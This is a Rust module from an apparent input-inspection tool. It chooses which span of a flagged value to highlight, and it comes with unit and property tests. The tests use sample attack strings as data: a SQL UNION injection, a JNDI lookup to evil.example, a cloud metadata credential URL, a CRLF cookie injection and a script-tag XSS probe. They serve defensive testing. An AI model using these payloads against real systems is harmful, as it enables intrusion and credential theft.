//! Which part of a value a reason marks. Not here: how it is printed.

use std::ops::Range;

use weir_features::Family;

use super::attribution::Kind;
use super::cause::Cause;

/// Words this close to each other are one part.
const WORD_GAP: usize = 16;
/// So is a mark this close to a word.
const MARK_GAP: usize = 8;
/// Marks without a word stand together only this close.
const LOOSE_GAP: usize = 3;
/// How far beyond its evidence a part may reach to end an expression, an address or a line.
const REACH: usize = 96;

struct Piece {
    range: Range<usize>,
    weight: f32,
    is_word: bool,
    /// Addresses, paths and headers go on to the end of what they stand in.
    family: Option<Family>,
}

/// The part of a value with the most influence: neighbouring pieces of evidence joined, together with the quotes and
/// brackets that open it, and all of the expression, address or header line that it begins.
pub(super) fn marked_part(value: &[u8], causes: &[Cause]) -> Option<Range<usize>> {
    let mut pieces: Vec<Piece> = causes.iter().flat_map(pieces).collect();
    if pieces.is_empty() {
        return densest_punctuation(value);
    }
    pieces.retain(|piece| piece.range.start < piece.range.end && piece.range.end <= value.len());
    pieces.sort_by_key(|piece| (piece.range.start, piece.range.end));
    let mut best: Option<Part> = None;
    let mut current: Option<Part> = None;
    for piece in pieces {
        current = Some(match current.take() {
            Some(part) if part.reaches(value, &piece) => part.with(&piece),
            finished => {
                best = heavier(best, finished);
                Part::default().with(&piece)
            }
        });
    }
    heavier(best, current).map(|part| part.widen(value))
}

/// A cause's pieces share its influence.
fn pieces(cause: &Cause) -> impl Iterator<Item = Piece> + '_ {
    let is_word = matches!(
        cause.kind,
        Kind::Lexicon(_) | Kind::Tokens(_) | Kind::Structure(_) | Kind::Profile(_)
    );
    let family = match cause.kind {
        Kind::Lexicon(family) | Kind::Tokens(family) => Some(family),
        _ => None,
    };
    let count = cause.pieces.len().max(1) as f32;
    cause.pieces.iter().map(move |range| Piece {
        range: range.clone(),
        weight: cause.share / count,
        is_word,
        family,
    })
}

#[derive(Clone, Debug, Default)]
struct Part {
    range: Range<usize>,
    weight: f32,
    has_words: bool,
    to_token_end: bool,
    to_line_end: bool,
}

impl Part {
    fn with(mut self, piece: &Piece) -> Self {
        self.range = if self.range.is_empty() {
            piece.range.clone()
        } else {
            self.range.start..self.range.end.max(piece.range.end)
        };
        self.weight += piece.weight;
        self.has_words |= piece.is_word;
        self.to_token_end |= matches!(piece.family, Some(Family::Address | Family::Path));
        self.to_line_end |= piece.family == Some(Family::Protocol);
        self
    }

    fn reaches(&self, value: &[u8], piece: &Piece) -> bool {
        let Some(gap) = value.get(self.range.end..piece.range.start) else {
            return true;
        };
        let limit = match (self.has_words, piece.is_word) {
            (true, true) => WORD_GAP,
            (true, false) | (false, true) => MARK_GAP,
            (false, false) => LOOSE_GAP,
        };
        let blank = |byte: &u8| byte.is_ascii_punctuation() || byte.is_ascii_whitespace();
        gap.len() <= limit || (gap.len() <= REACH && gap.iter().all(blank))
    }

    /// Adds the marks of code that touch the part, and what it begins.
    fn widen(&self, value: &[u8]) -> Range<usize> {
        let part = self.range.clone();
        let before = value.get(..part.start).unwrap_or_default();
        let after = value.get(part.end..).unwrap_or_default();
        let mut start = part.start - touching(before.iter().rev());
        let mut end = part.end + touching(after.iter());
        if value
            .get(start..)
            .is_some_and(|text| text.starts_with(b"://"))
        {
            // `://169.254` is shown with its scheme.
            start -= value
                .get(..start)
                .unwrap_or_default()
                .iter()
                .rev()
                .take_while(|byte| byte.is_ascii_alphanumeric())
                .count();
        }
        if self.to_line_end {
            end = reach(value, end, |byte| !matches!(byte, b'\r' | b'\n'));
        } else if self.to_token_end {
            end = reach(value, end, |byte| {
                byte.is_ascii_alphanumeric() || b"./-_:%@~?=&".contains(&byte)
            });
        }
        (start, end) = whole_words(value, start, end);
        end = closed(value, start, end);
        while start < part.start && is_prose_mark(value, start) {
            start += 1;
        }
        while end > start + 1 && value.get(end - 1).is_some_and(u8::is_ascii_whitespace) {
            end -= 1;
        }
        start..end
    }
}

fn touching<'b>(bytes: impl Iterator<Item = &'b u8>) -> usize {
    bytes
        .take(WORD_GAP)
        .take_while(|byte| byte.is_ascii_punctuation() || **byte == b' ')
        .count()
}

/// Blanks, and what ends a sentence before one.
fn is_prose_mark(value: &[u8], at: usize) -> bool {
    let blank = |byte: Option<&u8>| byte.is_some_and(u8::is_ascii_whitespace);
    blank(value.get(at))
        || (matches!(value.get(at), Some(b'.' | b',' | b'!' | b'?' | b':'))
            && blank(value.get(at + 1)))
}

/// A part that begins or ends inside a word, or at an equals sign, with the rest of that word.
fn whole_words(value: &[u8], start: usize, end: usize) -> (usize, usize) {
    let goes_on = |byte: Option<&u8>| {
        byte.is_some_and(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'=' | b'_'))
    };
    let word = |byte: &&u8| byte.is_ascii_alphanumeric() || **byte == b'_';
    let before = value.get(..start).unwrap_or_default().iter().rev();
    let after = value.get(end..).unwrap_or_default().iter();
    let first = if goes_on(value.get(start)) {
        before.take(WORD_GAP).take_while(word).count()
    } else {
        0
    };
    let last = if goes_on(end.checked_sub(1).and_then(|at| value.get(at))) {
        after.take(WORD_GAP).take_while(word).count()
    } else {
        0
    };
    (start - first, end + last)
}

/// The end of what goes on behind `end`; `end` itself where that is too far away.
fn reach(value: &[u8], end: usize, goes_on: impl Fn(u8) -> bool) -> usize {
    let more = value
        .get(end..)
        .unwrap_or_default()
        .iter()
        .take_while(|byte| goes_on(**byte))
        .count();
    end + more.min(REACH)
}

/// The end of a part with the brackets closed that it opens, where they close nearby.
fn closed(value: &[u8], start: usize, end: usize) -> usize {
    let mut open: Vec<u8> = Vec::new();
    let mut closed = end;
    let reach = end.saturating_add(REACH).min(value.len());
    for at in start..reach {
        if at >= end && open.is_empty() {
            break;
        }
        let Some(byte) = value.get(at) else { break };
        let next_is_tag = value
            .get(at + 1)
            .is_some_and(|next| next.is_ascii_alphabetic() || matches!(next, b'/' | b'!' | b'?'));
        match byte {
            b'(' => open.push(b')'),
            b'[' => open.push(b']'),
            b'{' => open.push(b'}'),
            b'<' if next_is_tag => open.push(b'>'),
            _ if open.last() == Some(byte) => {
                open.pop();
                if at >= end && open.is_empty() {
                    closed = at + 1;
                }
            }
            _ => {}
        }
    }
    closed
}

fn heavier(a: Option<Part>, b: Option<Part>) -> Option<Part> {
    match (a, b) {
        (Some(a), Some(b)) => Some(if b.weight > a.weight { b } else { a }),
        (a, b) => a.or(b),
    }
}

/// Without evidence, the longest run of at least two marks that prose does not have next to each other.
fn densest_punctuation(value: &[u8]) -> Option<Range<usize>> {
    let is_mark = |byte: u8| b"'\"`<>(){}[];|$\\*=".contains(&byte);
    let mut best = 0..0;
    let mut start = None;
    for (at, byte) in value.iter().copied().chain([b'a']).enumerate() {
        match (is_mark(byte), start) {
            (true, None) => start = Some(at),
            (false, Some(from)) => {
                if at - from > best.len() {
                    best = from..at;
                }
                start = None;
            }
            _ => {}
        }
    }
    (best.len() >= 2).then_some(best)
}

#[cfg(test)]
mod tests {
    #![allow(
        clippy::unwrap_used,
        clippy::expect_used,
        clippy::indexing_slicing,
        clippy::panic
    )]

    use proptest::prelude::*;
    use weir_features::Extractor;

    use super::*;
    use crate::reason::evidence;

    fn cause(kind: Kind, share: f32, value: &[u8]) -> Cause {
        Cause {
            kind,
            share,
            pieces: evidence::pieces(kind, value, &Extractor::shared().evidence(value)),
            name: String::new(),
            texts: Vec::new(),
        }
    }

    fn marked(value: &str, kinds: &[Kind]) -> String {
        let causes: Vec<Cause> = kinds
            .iter()
            .map(|kind| cause(*kind, 0.3, value.as_bytes()))
            .collect();
        let part = marked_part(value.as_bytes(), &causes);
        part.map_or(String::new(), |part| value[part].to_owned())
    }

    #[test]
    fn a_part_is_all_of_the_expression_address_or_line_that_it_begins() {
        let of = |family| [Kind::Lexicon(family)];
        for (value, family, part) in [
            (
                "1' UNION SELECT a,b FROM c-- ",
                Family::Sql,
                "' UNION SELECT a,b FROM c--",
            ),
            (
                "see ${jndi:ldap://evil.example/a} now",
                Family::Template,
                "${jndi:ldap://evil.example/a}",
            ),
            (
                "http://169.254.169.254/latest/meta-data/iam/x",
                Family::Address,
                "http://169.254.169.254/latest/meta-data/iam/x",
            ),
            (
                "a\r\nSet-Cookie: admin=1",
                Family::Protocol,
                "\r\nSet-Cookie: admin=1",
            ),
            (
                "Thanks. <script>alert(1)</script> bye",
                Family::Script,
                "<script>alert(1)</script>",
            ),
        ] {
            let found = marked(value, &of(family));
            assert_eq!(found, part, "{value}");
        }
        assert_eq!(marked("a", &of(Family::Sql)), "");
    }

    #[test]
    fn the_part_with_more_influence_is_marked() {
        let value = b"or                                                                                                                           <script>alert(1)</script>";
        let causes = [
            cause(Kind::Lexicon(Family::Sql), 0.1, value),
            cause(Kind::Lexicon(Family::Script), 0.5, value),
        ];
        let part = marked_part(value, &causes).unwrap();
        assert!(value[part].starts_with(b"<script>"));
    }

    #[test]
    fn punctuation_that_counts_is_marked_and_words_that_do_not_are_left_alone() {
        let value = "I'd like 2 <3 of these; it's $5 each";
        let part = marked(value, &[Kind::Punctuation('$'), Kind::Punctuation('<')]);
        assert!(!part.contains("like"), "{part}");
        assert!(part.contains('<') || part.contains('$'), "{part}");
    }

    #[test]
    fn without_evidence_punctuation_is_marked_or_nothing() {
        assert_eq!(marked_part(b"a'));b", &[]), Some(1..5));
        assert_eq!(marked_part(b"it's fine", &[]), None);
        assert_eq!(marked_part(b"", &[]), None);
    }

    proptest! {
        #[test]
        fn a_part_lies_inside_any_value(
            value in proptest::collection::vec(prop_oneof![any::<u8>(), proptest::sample::select(b"'\"<>(){}[];: a1".to_vec())], 0..200),
            pieces in proptest::collection::vec((0usize..220, 0usize..220), 0..8),
            family in proptest::sample::select(Family::ALL.to_vec()),
        ) {
            let cause = Cause {
                kind: Kind::Lexicon(family),
                share: 0.5,
                pieces: pieces.into_iter().map(|(start, end)| start..end).collect(),
                name: String::new(),
                texts: Vec::new(),
            };
            if let Some(part) = marked_part(&value, &[cause]) {
                prop_assert!(part.start < part.end && part.end <= value.len());
            }
        }
    }
}
